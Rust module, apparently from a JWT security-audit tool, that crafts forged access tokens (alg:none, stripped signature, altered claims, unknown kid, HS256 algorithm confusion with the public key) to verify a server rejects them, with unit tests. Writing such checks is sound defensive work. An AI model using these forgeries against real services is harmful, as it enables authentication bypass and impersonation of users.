//! Forged variants of a JWT access token: what an attacker holding one genuine token (or none)
//! can make of it without the issuer's private key. A sound server refuses every one
//! (RFC 8725 §2.1–2.2, §3.1; RFC 9068 §4).

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value};

/// The `kid` no key set holds.
const UNKNOWN_KID: &str = "scopegate-audit-unknown-kid";

/// A compact JWS, split and decoded.
pub(super) struct Jwt {
    header: Map<String, Value>,
    payload: Map<String, Value>,
    header_b64: String,
    payload_b64: String,
}

/// The token's parts, when it is a compact JWS whose header and payload are JSON objects.
pub(super) fn parse(token: &str) -> Option<Jwt> {
    let mut parts = token.split('.');
    let (header_b64, payload_b64, _signature) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() {
        return None;
    }
    let object = |b64: &str| -> Option<Map<String, Value>> {
        let bytes = URL_SAFE_NO_PAD.decode(b64).ok()?;
        match serde_json::from_slice(&bytes).ok()? {
            Value::Object(map) => Some(map),
            _ => None,
        }
    };
    Some(Jwt {
        header: object(header_b64)?,
        payload: object(payload_b64)?,
        header_b64: header_b64.to_owned(),
        payload_b64: payload_b64.to_owned(),
    })
}

fn encode(map: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(map.clone()).to_string())
}

impl Jwt {
    /// The header's `kid`.
    pub(super) fn kid(&self) -> Option<&str> {
        self.header.get("kid").and_then(Value::as_str)
    }

    /// The signature of the genuine token.
    fn signature<'a>(&self, token: &'a str) -> &'a str {
        token.rsplit('.').next().unwrap_or_default()
    }

    /// Another subject and a day more of life, under the genuine signature.
    pub(super) fn claims_changed(&self, token: &str) -> String {
        let mut payload = self.payload.clone();
        payload.insert("sub".into(), Value::from("scopegate-audit-forged"));
        if let Some(exp) = payload.get("exp").and_then(Value::as_u64) {
            payload.insert("exp".into(), Value::from(exp + 86_400));
        }
        format!(
            "{}.{}.{}",
            self.header_b64,
            encode(&payload),
            self.signature(token)
        )
    }

    /// `alg: none` and no signature (RFC 7519 §6, "unsecured JWT").
    pub(super) fn alg_none(&self) -> String {
        let mut header = self.header.clone();
        header.insert("alg".into(), Value::from("none"));
        format!("{}.{}.", encode(&header), self.payload_b64)
    }

    /// A `kid` no key set holds, under the genuine signature.
    pub(super) fn unknown_kid(&self, token: &str) -> String {
        let mut header = self.header.clone();
        header.insert("kid".into(), Value::from(UNKNOWN_KID));
        format!(
            "{}.{}.{}",
            encode(&header),
            self.payload_b64,
            self.signature(token)
        )
    }

    /// The genuine header and claims with an empty signature.
    pub(super) fn signature_stripped(&self) -> String {
        format!("{}.{}.", self.header_b64, self.payload_b64)
    }

    /// `alg: HS256`, signed with `secret` as the HMAC key: the algorithm-confusion attack when
    /// `secret` is the issuer's public key (RFC 8725 §2.1).
    pub(super) fn hs256(&self, secret: &[u8]) -> String {
        let mut header = self.header.clone();
        header.insert("alg".into(), Value::from("HS256"));
        let input = format!("{}.{}", encode(&header), self.payload_b64);
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(tag.as_ref()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> String {
        let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"RS256","kid":"k1","typ":"at+jwt"}"#);
        let payload = URL_SAFE_NO_PAD.encode(br#"{"sub":"alice","exp":100,"scope":"a"}"#);
        format!("{header}.{payload}.c2lnbmF0dXJl")
    }

    fn part(token: &str, index: usize) -> Value {
        let b64 = token.split('.').nth(index).unwrap();
        serde_json::from_slice(&URL_SAFE_NO_PAD.decode(b64).unwrap()).unwrap()
    }

    #[test]
    fn each_variant_changes_what_it_says_and_keeps_the_rest() {
        let token = token();
        let jwt = parse(&token).unwrap();
        assert_eq!(jwt.kid(), Some("k1"));

        let changed = jwt.claims_changed(&token);
        assert_eq!(part(&changed, 1)["sub"], "scopegate-audit-forged");
        assert_eq!(part(&changed, 1)["exp"], 86_500);
        assert!(changed.ends_with(".c2lnbmF0dXJl"));
        assert_eq!(changed.split('.').next(), token.split('.').next());

        let none = jwt.alg_none();
        assert_eq!(part(&none, 0)["alg"], "none");
        assert!(none.ends_with('.'));
        assert_eq!(none.split('.').nth(1), token.split('.').nth(1));

        let kid = jwt.unknown_kid(&token);
        assert_eq!(part(&kid, 0)["kid"], UNKNOWN_KID);
        assert!(kid.ends_with(".c2lnbmF0dXJl"));

        let stripped = jwt.signature_stripped();
        assert_eq!(
            stripped,
            token
                .rsplit_once('.')
                .map(|(signed, _)| format!("{signed}."))
                .unwrap()
        );
    }

    #[test]
    fn the_hs256_variant_is_an_hmac_of_header_and_payload_with_the_secret() {
        let token = token();
        let forged = parse(&token).unwrap().hs256(b"secret");
        assert_eq!(part(&forged, 0)["alg"], "HS256");
        assert_eq!(part(&forged, 0)["kid"], "k1");
        let (input, signature) = forged.rsplit_once('.').unwrap();
        let key = hmac::Key::new(hmac::HMAC_SHA256, b"secret");
        let tag = URL_SAFE_NO_PAD.decode(signature).unwrap();
        assert!(hmac::verify(&key, input.as_bytes(), &tag).is_ok());
    }

    #[test]
    fn what_is_not_a_compact_jws_is_not_parsed() {
        for bad in ["opaque", "a.b", "a.b.c.d", "e30.bm90LWpzb24.", "W10.e30."] {
            assert!(parse(bad).is_none(), "{bad}");
        }
    }
}
